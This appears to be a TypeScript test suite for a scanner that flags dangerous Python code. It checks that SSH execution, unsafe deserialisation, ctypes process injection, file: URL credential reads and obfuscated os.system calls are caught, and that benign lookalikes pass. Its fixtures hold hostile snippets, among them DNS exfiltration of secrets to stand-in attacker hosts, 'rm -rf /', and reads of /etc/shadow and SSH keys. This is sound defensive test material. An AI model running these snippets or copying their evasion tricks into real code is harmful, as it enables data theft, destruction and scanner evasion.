// The detection families issue 11 added for Python (remote and network capabilities, code execution one
// would not guess, files and native code): each technique flagged however the object is reached, and the
// benign code that looks like it left alone.
import assert from 'node:assert/strict';
import { check, itFlags, itQuiet } from './helpers';

describe('python families: remote and network capabilities', () => {
  describe('SSH command execution', () => {
    itFlags([
      [
        'paramiko exec_command on a client in a variable',
        'import paramiko\nc = paramiko.SSHClient()\nc.connect("h")\nc.exec_command("id")',
        'command-execution',
        4,
      ],
      [
        'a destructive remote command',
        'from paramiko import SSHClient\nssh = SSHClient()\nssh.exec_command("rm -rf /")',
        'destructive-command',
        3,
      ],
      [
        'a paramiko channel from the transport',
        'import paramiko\nt = paramiko.Transport(("h", 22))\nch = t.open_session()\nch.exec_command(cmd)',
        'command-execution',
        4,
      ],
      [
        'a channel from the client transport',
        'import paramiko\nc = paramiko.client.SSHClient()\nc.get_transport().open_session().exec_command(cmd)',
        'command-execution',
        3,
      ],
      [
        'fabric Connection.run and sudo',
        'from fabric import Connection\nconn = Connection("web1")\nconn.sudo("systemctl restart app")',
        'command-execution',
        3,
      ],
      ['fabric 1 api functions', 'from fabric.api import sudo\nsudo("reboot")', 'command-execution', 2],
      ['fabric Connection.local', 'import fabric\nfabric.Connection("h").local(cmd)', 'command-execution', 2],
      ['invoke.run', 'import invoke\ninvoke.run("make deploy")', 'command-execution', 2],
      ['an invoke Context', 'from invoke import Context\nContext().run("ls")', 'command-execution', 2],
      [
        'fabric Connection construction',
        'from fabric import Connection\nConnection("h")',
        'network-socket',
        2,
      ],
    ]);
    itQuiet([
      ['a method named exec_command on another object', 'db.exec_command("vacuum")\nrunner.run("x")'],
      ['a local run function', 'def run(cmd):\n    print(cmd)\nrun("ls")'],
      ['fabric imported but only a task defined', 'from invoke import task\n@task\ndef build(c):\n    pass'],
    ]);
  });

  describe('DNS lookups carrying data', () => {
    itFlags([
      [
        'dns.resolver.resolve with a computed name',
        'import dns.resolver\ndns.resolver.resolve(secret.hex() + ".attacker.example", "TXT")',
        'network-socket',
        2,
      ],
      [
        'a Resolver instance',
        'import dns.resolver\nr = dns.resolver.Resolver()\nr.query(f"{token}.x.example")',
        'network-socket',
        3,
      ],
      [
        'aiodns',
        'import aiodns\nresolver = aiodns.DNSResolver()\nresolver.query(name, "A")',
        'network-socket',
        3,
      ],
      [
        'a constant DNS query',
        'import dns.resolver\ndns.resolver.resolve("example.com", "MX")',
        'network-socket',
        2,
      ],
      ['socket.getaddrinfo', 'import socket\nsocket.getaddrinfo("example.com", 443)', 'network-socket', 2],
    ]);
    itQuiet([['a resolve() method on another object', 'import os\npath.resolve()\nfuture.query(x)']]);

    it('calls a lookup of a computed name exfiltration, and a constant one a lookup', async () => {
      const computed = await check('import socket\nsocket.gethostbyname(data + ".evil.example")');
      const constant = await check('import socket\nsocket.gethostbyname("example.com")');
      const message = (findings: typeof computed): string =>
        findings.find((f) => f.ruleId === 'network-socket')?.message ?? '';
      assert.match(message(computed), /exfiltration/);
      assert.doesNotMatch(message(constant), /exfiltration/);
    });
  });

  describe('programs that listen', () => {
    itFlags([
      [
        'flask app.run',
        'from flask import Flask\napp = Flask(__name__)\napp.run(host="0.0.0.0")',
        'network-socket',
        3,
      ],
      [
        'flask app.run(debug=True): the Werkzeug debugger runs code',
        'import flask\napp = flask.Flask(__name__)\napp.run(debug=True)',
        'command-execution',
        3,
      ],
      [
        'a debug flag computed at run time',
        'from flask import Flask\nFlask(__name__).run(debug=os.environ.get("DEBUG"))',
        'command-execution',
        2,
      ],
      [
        'werkzeug run_simple with the debugger',
        'from werkzeug.serving import run_simple\nrun_simple("0.0.0.0", 5000, app, use_debugger=True)',
        'command-execution',
        2,
      ],
      [
        'DebuggedApplication with evalex',
        'from werkzeug.debug import DebuggedApplication\napp = DebuggedApplication(app, evalex=True)',
        'command-execution',
        2,
      ],
      [
        'twisted reactor.listenTCP',
        'from twisted.internet import reactor\nreactor.listenTCP(8000, factory)\nreactor.run()',
        'network-socket',
        2,
      ],
      [
        'SimpleXMLRPCServer under its Python 2 name',
        'import SimpleXMLRPCServer\nSimpleXMLRPCServer.SimpleXMLRPCServer(("0.0.0.0", 8000))',
        'network-socket',
        2,
      ],
      ['http.server.test', 'import http.server\nhttp.server.test()', 'network-socket', 2],
      [
        'a socketserver Unix server',
        'import socketserver\nsocketserver.UnixStreamServer(p, H)',
        'network-socket',
        2,
      ],
      [
        'wsgiref make_server',
        'from wsgiref.simple_server import make_server\nmake_server("", 80, app)',
        'network-socket',
        2,
      ],
      [
        'asyncio.start_server',
        'import asyncio\nasync def main():\n    await asyncio.start_server(handle, "0.0.0.0", 8888)',
        'network-socket',
        3,
      ],
      ['uvicorn.run', 'import uvicorn\nuvicorn.run(app, host="0.0.0.0")', 'network-socket', 2],
      [
        'a tornado application',
        'import tornado.web\napp = tornado.web.Application([])\napp.listen(8888)',
        'network-socket',
        3,
      ],
    ]);
    itQuiet([
      [
        'a flask app that is only defined',
        'from flask import Flask\napp = Flask(__name__)\n@app.route("/")\ndef index():\n    return "hi"',
      ],
      [
        'flask app.run(debug=False)',
        'from flask import Flask\nFlask(__name__).run(debug=False)',
        'command-execution',
      ],
      [
        'DebuggedApplication without the console',
        'from werkzeug.debug import DebuggedApplication\nDebuggedApplication(app)',
      ],
      ['a run() method on another object', 'loop.run()\nthread.run()\nengine.listen(1)'],
    ]);

    it('blocks flask debug mode in presets that only report listening', async () => {
      const code = 'from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)';
      const findings = await check(code, { config: { preset: 'development' } });
      const listening = findings.find((f) => f.ruleId === 'network-socket');
      const debug = findings.find((f) => f.ruleId === 'command-execution');
      assert.equal(listening?.violation, false);
      assert.equal(debug?.severity, 'HIGH');
      assert.equal(debug?.violation, true);
    });
  });

  describe('legacy urllib openers and file: URLs', () => {
    itFlags([
      ['URLopener', 'import urllib.request\nurllib.request.URLopener().open(u)', 'network-http', 2],
      [
        'FancyURLopener.retrieve',
        'from urllib.request import FancyURLopener\no = FancyURLopener()\no.retrieve(u, "x")',
        'network-http',
        3,
      ],
      ['urlretrieve', 'import urllib.request\nurllib.request.urlretrieve(u, "f")', 'network-http', 2],
      [
        'a file: URL read',
        'import urllib.request\nurllib.request.urlopen("file:///etc/passwd").read()',
        'read-outside-workdir',
        2,
      ],
      [
        'a file URL with a host',
        'from urllib.request import urlretrieve\nurlretrieve("file://localhost/etc/shadow", "x")',
        'read-outside-workdir',
        2,
      ],
      [
        'the local_file: scheme of the legacy opener',
        'import urllib.request\nurllib.request.URLopener().open("local_file:///root/.ssh/id_rsa")',
        'read-outside-workdir',
        2,
      ],
      [
        'a percent-encoded file URL',
        'import urllib.request\nurllib.request.urlopen("FILE:///%65tc/passwd")',
        'read-outside-workdir',
        2,
      ],
    ]);
    itQuiet([
      [
        'an https URL',
        'import urllib.request\nurllib.request.urlopen("https://example.com/a.txt")',
        'read-outside-workdir',
      ],
      ['a file URL in a string', 'url = "file:///etc/passwd"\nprint(url)'],
    ]);
  });
});

describe('python families: code execution one would not guess', () => {
  itFlags([
    [
      '_xxsubinterpreters.run_string',
      'import _xxsubinterpreters as si\nsi.run_string(si.create(), src)',
      'dynamic-code',
      2,
    ],
    ['_interpreters.exec', 'import _interpreters\n_interpreters.exec(iid, "import os")', 'dynamic-code', 2],
    [
      'concurrent.interpreters create().exec',
      'from concurrent import interpreters\ninterp = interpreters.create()\ninterp.exec(code)',
      'dynamic-code',
      3,
    ],
    [
      'concurrent.interpreters call',
      'import concurrent.interpreters as ci\nci.create().call(f)',
      'dynamic-code',
      2,
    ],
    ['_testcapi.run_in_subinterp', 'import _testcapi\n_testcapi.run_in_subinterp(code)', 'dynamic-code', 2],
    [
      'test.support.run_in_subinterp',
      'from test import support\nsupport.run_in_subinterp(code)',
      'dynamic-code',
      2,
    ],
    [
      'InteractiveConsole.push on its own line',
      'import code\nconsole = code.InteractiveConsole(locals())\nconsole.push(line)',
      'dynamic-code',
      3,
    ],
    [
      'InteractiveInterpreter.runsource',
      'from code import InteractiveInterpreter\nii = InteractiveInterpreter()\nii.runsource(src)',
      'dynamic-code',
      3,
    ],
    ['code.compile_command', 'import code\ncode.compile_command(src)', 'dynamic-code', 2],
    ['codeop.CommandCompiler', 'import codeop\ncodeop.CommandCompiler()(src)', 'dynamic-code', 2],
    ['runpy.run_module', 'from runpy import run_module\nrun_module("pkg.tool")', 'dynamic-code', 2],
    ['runpy._run_module_as_main', 'import runpy\nrunpy._run_module_as_main("x")', 'dynamic-code', 2],
    ['distutils.spawn.spawn', 'from distutils.spawn import spawn\nspawn(["make"])', 'command-execution', 2],
    [
      'setuptools run_setup',
      'from setuptools.sandbox import run_setup\nrun_setup("setup.py", [])',
      'dynamic-code',
      2,
    ],
    ['pip.main', 'import pip\npip.main(["install", name])', 'command-execution', 2],
    [
      'ruamel YAML(typ="unsafe")',
      'import ruamel.yaml\nruamel.yaml.YAML(typ="unsafe").load(s)',
      'unsafe-deserialization',
      2,
    ],
    [
      'ruamel YAML(typ="base")',
      "from ruamel.yaml import YAML\nyaml = YAML(typ='base')",
      'unsafe-deserialization',
      2,
    ],
    [
      'ruamel YAML with a computed typ',
      'from ruamel.yaml import YAML\nYAML(typ=kind)',
      'unsafe-deserialization',
      2,
    ],
    ['the old ruamel.yaml.load API', 'import ruamel.yaml\nruamel.yaml.load(s)', 'unsafe-deserialization', 2],
    ['jsonpickle.decode', 'import jsonpickle\nobj = jsonpickle.decode(payload)', 'unsafe-deserialization', 2],
    [
      'jsonpickle Unpickler',
      'from jsonpickle.unpickler import Unpickler\nUnpickler().restore(d)',
      'unsafe-deserialization',
      2,
    ],
    ['dill.loads', 'import dill\ndill.loads(blob)', 'unsafe-deserialization', 2],
    ['dill.load_session', 'import dill\ndill.load_session("s.pkl")', 'unsafe-deserialization', 2],
    ['cloudpickle.loads', 'import cloudpickle as cp\ncp.loads(blob)', 'unsafe-deserialization', 2],
    [
      'torch.load without weights_only',
      'import torch\nmodel = torch.load(path, map_location="cpu")',
      'unsafe-deserialization',
      2,
    ],
    [
      'torch.load(weights_only=False)',
      'import torch\ntorch.load(path, weights_only=False)',
      'unsafe-deserialization',
      2,
    ],
    ['torch.hub.load', 'import torch\ntorch.hub.load("someone/repo", "model")', 'dynamic-code', 2],
  ]);
  itQuiet([
    ['ruamel YAML() round-trip', 'from ruamel.yaml import YAML\nyaml = YAML()\nyaml.load(s)'],
    ['ruamel YAML(typ="safe")', 'from ruamel.yaml import YAML\nYAML(typ="safe", pure=True).load(s)'],
    [
      'ruamel.yaml.load with SafeLoader',
      'import ruamel.yaml\nruamel.yaml.load(s, Loader=ruamel.yaml.SafeLoader)',
    ],
    ['torch.load(weights_only=True)', 'import torch\ntorch.load(path, weights_only=True)'],
    ['jsonpickle.encode and dill.dumps', 'import jsonpickle, dill\njsonpickle.encode(o)\ndill.dumps(o)'],
    [
      'methods named like the sinks',
      'buffer.push(x)\nsession.runsource = 1\nqueue.exec(job)\nworker.spawn(task)',
    ],
    ['a local spawn function', 'def spawn(argv):\n    return argv\nspawn(["make"])'],
  ]);
});

describe('python families: files and native code', () => {
  itFlags([
    ['os.fchmod', 'import os\nos.fchmod(fd, 0o777)', 'file-write', 2],
    ['os.lchmod', 'import os\nos.lchmod("link", 0o777)', 'file-write', 2],
    ['os.fchown', 'import os\nos.fchown(fd, 0, 0)', 'file-write', 2],
    ['os.chown through from-import', 'from os import chown\nchown("f", 0, 0)', 'file-write', 2],
    ['os.lchown', 'import os\nos.lchown("link", 0, 0)', 'file-write', 2],
    ['os.truncate', 'import os\nos.truncate("db.sqlite", 0)', 'file-write', 2],
    ['os.ftruncate', 'import os\nos.ftruncate(fd, 0)', 'file-write', 2],
    [
      'a Windows API through ctypes.windll',
      'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)',
      'native-code',
      2,
    ],
    [
      'a WinDLL held in a variable, used lines later',
      'import ctypes\nk32 = ctypes.WinDLL("kernel32")\nh = k32.OpenProcess(0x1F0FFF, False, pid)\nk32.CreateRemoteThread(h, None, 0, addr, None, 0, None)',
      'native-code',
      4,
    ],
    [
      'a library from cdll.LoadLibrary',
      'from ctypes import cdll\nlib = cdll.LoadLibrary("x.so")\nlib.entry()',
      'native-code',
      3,
    ],
    ['oledll from a star import', 'from ctypes import *\noledll.ole32.CoInitialize(None)', 'native-code', 2],
    [
      'ShellExecuteW as command execution',
      'from ctypes import windll\nwindll.shell32.ShellExecuteW(None, "open", "cmd.exe", None, None, 1)',
      'command-execution',
      2,
    ],
    [
      "libc's system through CDLL",
      'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.system(b"id")',
      'command-execution',
      3,
    ],
    [
      'pywin32 ShellExecute',
      'import win32api\nwin32api.ShellExecute(0, "open", exe, None, ".", 1)',
      'command-execution',
      2,
    ],
  ]);
  itQuiet([
    ['os.stat and os.fstat', 'import os\nos.stat("f")\nos.fstat(fd)', 'file-write'],
    ['a truncate() method on a file object', 'f.truncate(0)\nbuf.chown = 1', 'file-write'],
    ['an object with methods named like Windows APIs', 'mem.VirtualAlloc(1)\nk.CreateRemoteThread()'],
  ]);

  it('names the Windows API in the message', async () => {
    const findings = await check(
      'import ctypes\nk = ctypes.WinDLL("kernel32")\nk.WriteProcessMemory(h, a, b, n, None)',
    );
    const finding = findings.find((f) => f.ruleId === 'native-code' && f.range.start.line === 2);
    assert.match(finding?.message ?? '', /WriteProcessMemory writes into another process's memory/);
  });
});

describe('python families: constant dynamic imports are imports', () => {
  itQuiet([
    [
      'importlib.import_module of a harmless module',
      'import importlib\njson = importlib.import_module("json")',
    ],
    ['__import__ of a harmless module', '__import__("json").dumps({})'],
    ['a folded harmless name', 'import importlib\nimportlib.import_module("js" + "on")'],
    ['a relative plugin import', 'import importlib\nimportlib.import_module(".plugins", __package__)'],
    ['pydoc.locate of a harmless name', 'import pydoc\npydoc.locate("json.dumps")'],
  ]);
  itFlags([
    [
      'a name computed at run time',
      'import importlib\nimportlib.import_module(plugin_name)',
      'dynamic-import',
      2,
    ],
    ['a restricted module imported by a constant name', '__import__("subprocess")', 'restricted-module', 1],
    [
      'a restricted module through import_module',
      'from importlib import import_module\nimport_module("ctypes")',
      'restricted-module',
      2,
    ],
    [
      'a folded dangerous module used as a module',
      '__import__("o" + "s").system("id")',
      'command-execution',
      1,
    ],
    [
      "resolve_name's module restricted",
      'import pkgutil\npkgutil.resolve_name("subprocess:Popen")',
      'restricted-module',
      2,
    ],
  ]);

  it('reports a constant import of a harmless module in no preset', async () => {
    for (const preset of ['minimal', 'production', 'strict'] as const) {
      const findings = await check('__import__("json").dumps({})', {
        config: { preset },
      });
      assert.deepEqual(
        findings.map((f) => f.ruleId),
        [],
        preset,
      );
    }
  });
});

describe('python families: snippets and notebook cells without their imports', () => {
  itFlags([
    ['requests.post', 'requests.post("https://x.example", data=secrets)', 'network-http', 1],
    ['urllib.request.urlretrieve', 'urllib.request.urlretrieve(url, "f")', 'network-http', 1],
    ['subprocess.Popen', 'subprocess.Popen(["ls"])', 'command-execution', 1],
    ['bare Popen', 'p = Popen(cmd, stdout=PIPE)', 'command-execution', 1],
    ['bare check_output with shell=True', 'out = check_output("id", shell=True)', 'shell-true', 1],
    ['np.load with pickles', 'arr = np.load("x.npy", allow_pickle=True)', 'unsafe-deserialization', 1],
    ['torch.load', 'model = torch.load("model.pt")', 'unsafe-deserialization', 1],
    ['pd.read_pickle', 'df = pd.read_pickle(path)', 'unsafe-deserialization', 1],
    ['paramiko', 'c = paramiko.SSHClient()\nc.exec_command(cmd)', 'command-execution', 2],
    ['windll without ctypes', 'windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)', 'native-code', 1],
    ['kernel32 without its definition', 'kernel32.WriteProcessMemory(h, a, b, n, None)', 'native-code', 1],
    ['Path.write_text', 'Path("out.txt").write_text(data)', 'file-write', 1],
  ]);
  itQuiet([
    ['a local Popen', 'def Popen(cmd):\n    return cmd\nPopen(["ls"])'],
    ['a variable named requests', 'requests = []\nrequests.append(r)\nfor r in requests:\n    print(r)'],
    ['a parameter named requests', 'def handle(requests):\n    return requests.get("k")'],
    ['requests imported from elsewhere', 'from .models import requests\nrequests.post(x)'],
    ['a class named Path', 'class Path:\n    def write_text(self, s):\n        pass\nPath().write_text("x")'],
    ['the names in strings and comments', '# requests.post(url)\nprint("subprocess.Popen(cmd)")'],
  ]);
});

describe('python families: names that cannot be folded', () => {
  itFlags([
    [
      'an unknown codec',
      'import os\ngetattr(os, b"\\xa2\\xa8\\xa2\\xa3\\x85\\x94".decode("cp1026"))("id")',
      'dynamic-attribute',
      2,
    ],
    [
      'a codec computed at run time',
      'import os\ngetattr(os, b"system".decode(enc))("id")',
      'dynamic-attribute',
      2,
    ],
    [
      'an encoding keyword',
      'import os\ngetattr(os, b"x".decode(encoding="cp500"))("id")',
      'dynamic-attribute',
      2,
    ],
    ['a function result', 'import subprocess\ngetattr(subprocess, pick())("id")', 'dynamic-attribute', 2],
    [
      'builtins with a computed name',
      'import builtins\ngetattr(builtins, name)(src)',
      'dynamic-attribute',
      2,
    ],
    [
      'a module reached by __getattribute__',
      'import os\nos.__getattribute__(name)("id")',
      'dynamic-attribute',
      2,
    ],
    [
      'a dangerous submodule',
      'import urllib.request\ngetattr(urllib.request, name)(u)',
      'dynamic-attribute',
      2,
    ],
    ['a native library', 'import ctypes\ngetattr(ctypes.windll.kernel32, fn)(0)', 'dynamic-attribute', 2],
    ['utf-8 bytes', 'import os\ngetattr(os, b"system".decode("utf-8"))("id")', 'command-execution', 2],
    [
      'latin-1',
      'import os\ngetattr(os, b"sys\\xe9".decode("latin-1")[:3] + "tem")("id")',
      'command-execution',
      2,
    ],
    [
      'ascii',
      'import os\ngetattr(os, bytes("system", "ascii").decode("ASCII"))("id")',
      'command-execution',
      2,
    ],
    [
      'utf-16',
      'import os\ngetattr(os, "system".encode("utf-16").decode("utf_16"))("id")',
      'command-execution',
      2,
    ],
    [
      'utf-16-le bytes',
      'import os\ngetattr(os, b"s\\x00y\\x00s\\x00t\\x00e\\x00m\\x00".decode("utf-16-le"))("id")',
      'command-execution',
      2,
    ],
    [
      'rot13',
      'import os, codecs\ngetattr(os, codecs.decode("flfgrz", "rot13"))("id")',
      'command-execution',
      2,
    ],
    [
      'base64 through codecs',
      'import os, codecs\ngetattr(os, codecs.decode(b"c3lzdGVt", "base64").decode())("id")',
      'command-execution',
      2,
    ],
    [
      'hex through codecs',
      'import os, codecs\ngetattr(os, codecs.decode(b"73797374656d", "hex").decode())("id")',
      'command-execution',
      2,
    ],
    [
      'str(bytes, encoding)',
      'import os\ngetattr(os, str(b"system", encoding="utf-8"))("id")',
      'command-execution',
      2,
    ],
  ]);
  itQuiet([
    ['getattr with a constant harmless name', 'import os\ngetattr(os, b"getcwd".decode("ascii"))()'],
    ['getattr on an ordinary object', 'getattr(config, name.decode("cp1026"))'],
    ['a decoded string that is not a name', 'print(b"\\xa2".decode("cp1026"))'],
  ]);
});

describe('python families: objects bound by with', () => {
  itFlags([
    [
      'a paramiko client bound by with',
      'import paramiko\nwith paramiko.SSHClient() as c:\n    c.exec_command("id")',
      'command-execution',
      3,
    ],
    [
      'a fabric connection bound by with',
      'from fabric import Connection\nwith Connection("h") as c:\n    c.run("uname")',
      'command-execution',
      3,
    ],
    [
      'a tar archive bound by with',
      'import tarfile\nwith tarfile.open("a.tar") as tar:\n    tar.extractall()',
      'file-write',
      3,
    ],
  ]);
  itQuiet([
    ['a file bound by with', 'with open("f") as fh:\n    fh.read()'],
    ['an unrelated context manager', 'with lock as held:\n    held.run()\n    held.exec_command("x")'],
  ]);
});

describe('python families: an unsafe ruamel.yaml loader used lines later', () => {
  itFlags([
    [
      'load on a YAML(typ="unsafe") in a variable',
      'from ruamel.yaml import YAML\nyaml = YAML(typ="unsafe")\n\ndata = yaml.load(stream)',
      'unsafe-deserialization',
      4,
    ],
    [
      'load_all on a YAML with a computed typ',
      'import ruamel.yaml\ny = ruamel.yaml.YAML(typ=kind)\ny.load_all(s)',
      'unsafe-deserialization',
      3,
    ],
  ]);
  itQuiet([
    ['load on a safe YAML', 'from ruamel.yaml import YAML\nyaml = YAML(typ="safe")\nyaml.load(s)'],
    [
      'load on a round-trip YAML',
      'from ruamel.yaml import YAML\nyaml = YAML()\nyaml.load(s)\nyaml.dump(d, out)',
    ],
  ]);
});
